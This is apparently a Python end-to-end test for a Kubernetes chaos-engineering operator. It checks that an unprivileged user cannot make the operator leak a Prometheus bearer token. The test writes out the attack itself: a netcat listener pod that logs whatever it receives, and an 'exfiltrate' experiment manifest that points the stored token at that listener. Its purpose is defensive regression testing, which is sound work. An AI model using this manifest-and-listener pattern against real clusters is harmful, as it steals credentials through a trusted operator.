"""Issue 20's token attack on the real node, under the Helm defaults (webhooks on), through kubectl as the
attacker.

mallory may create experiments in her namespace but may not `get secrets`. The namespace's owner
granted the operator its Prometheus token (examples/prometheus-credentials-access.yaml), and the
token is in the Secret prometheus-token. mallory applies a dry-run experiment whose steadyState
names that Secret and points at a server she runs (a pod that writes every request it receives to
its log). The operator's pod must never send it the token, and mallory is told why: by the validating
webhook at `kubectl apply` (the installs' defaults), or by the operator in the status without it.
"""

from __future__ import annotations

import json
import uuid
from typing import Any

import pytest

from localcluster.wait import wait_for
from tests.e2e.conftest import APP_IMAGE, E2ECluster
from tests.support.example_flow import EXAMPLES, Kubectl

MALLORY_ROLE = """
apiVersion: rbac.authorization.k8s.io/v1
kind: Role
metadata: {name: mallory-chaos}
rules:
  - apiGroups: [chaosguard.dev]
    resources: [chaosexperiments]
    verbs: [get, list, watch, create, update, patch, delete]
  - apiGroups: [""]
    resources: [pods]
    verbs: [get, list, delete]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: mallory-chaos}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: mallory-chaos}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: mallory}]
"""

# Her server: busybox nc, one connection at a time, everything received goes to the pod's log.
COLLECTOR = f"""
apiVersion: v1
kind: Pod
metadata: {{name: collector, labels: {{app: collector}}}}
spec:
  containers:
    - name: nc
      image: {APP_IMAGE}
      imagePullPolicy: IfNotPresent
      command: [sh, -c, "while true; do nc -l -p 8080 </dev/null; done"]
"""


def attack(url: str) -> str:
    return f"""
apiVersion: chaosguard.dev/v1alpha1
kind: ChaosExperiment
metadata: {{name: exfiltrate}}
spec:
  action: pod-kill
  target: {{selector: {{matchLabels: {{app: nothing}}}}, mode: one}}
  duration: 10s
  dryRun: true
  steadyState:
    prometheus:
      url: {url}
      timeout: 1s
      bearerTokenSecret: {{name: prometheus-token, key: token}}
    interval: 1s
    conditions:
      - {{name: up, query: up, operator: ">", threshold: 0}}
"""


def status(kubectl: Kubectl, namespace: str) -> dict[str, Any]:
    body = json.loads(kubectl("get", "chaosexperiment", "exfiltrate", "-n", namespace, "-o", "json"))
    return dict(body.get("status") or {})


def test_the_token_is_never_sent_to_the_authors_server(
    e2e_cluster: E2ECluster, kubectl: Kubectl, installed_operator: str, e2e_namespace: str
) -> None:
    if e2e_cluster.plane is None:
        pytest.skip("needs the real node's static users (mallory)")
    plane, namespace = e2e_cluster.plane, e2e_namespace
    token = f"tok-{uuid.uuid4().hex}"
    kubectl("create", "namespace", namespace)
    kubectl("label", "namespace", namespace, "chaosguard.dev/chaos=allowed")
    kubectl("create", "secret", "generic", "prometheus-token", "-n", namespace, f"--from-literal=token={token}")
    kubectl("apply", "-n", namespace, "-f", str(EXAMPLES / "prometheus-credentials-access.yaml"))
    kubectl("apply", "-n", namespace, "-f", "-", input=MALLORY_ROLE)
    kubectl("apply", "-n", namespace, "-f", "-", input=COLLECTOR)
    kubectl("wait", "-n", namespace, "--for=condition=Ready", "pod/collector", "--timeout=120s")
    ip = json.loads(kubectl("get", "pod", "collector", "-n", namespace, "-o", "json"))["status"]["podIP"]

    can = plane.kubectl("auth", "can-i", "get", "secrets", "-n", namespace, user="mallory", check=False)
    assert can.stdout.strip() == "no"
    applied = plane.kubectl(
        "apply", "-n", namespace, "-f", "-", input=attack(f"http://{ip}:8080"), user="mallory", check=False
    )
    if applied.returncode != 0:
        # The installs' defaults: the validating webhook refuses it at `kubectl apply`, and mallory reads why.
        assert "denied the request" in applied.stderr, applied.stderr
        assert "REFUSED prometheus-credentials-url" in applied.stderr, applied.stderr
        assert "REFUSED secret-permission" in applied.stderr, applied.stderr
    else:
        # Without the webhooks, the operator refuses it before it queries anything.
        def ended() -> dict[str, Any] | None:
            found = status(kubectl, namespace)
            return found if found.get("phase") in ("Rejected", "Aborted", "Completed", "Failed") else None

        final = wait_for(
            ended, timeout=120, what="the experiment to be judged", describe=lambda: str(status(kubectl, namespace))
        )
        assert final["phase"] == "Rejected", final
        # No --prometheus-url and no allowed list: nothing may carry the token anywhere.
        assert final["message"].startswith("REFUSED prometheus-credentials-url: "), final["message"]
        events = kubectl("get", "events", "-n", namespace, "--field-selector", "involvedObject.name=exfiltrate")
        assert "PrometheusCredentialsUrl" in events, events
        # mallory reads why, as herself.
        told = plane.kubectl("get", "chaosexperiment", "exfiltrate", "-n", namespace, "-o", "json", user="mallory")
        assert "bearerTokenSecret would send a token to" in json.loads(told.stdout)["status"]["message"]

    received = kubectl("logs", "-n", namespace, "collector")
    assert token not in received and "authorization" not in received.lower(), received
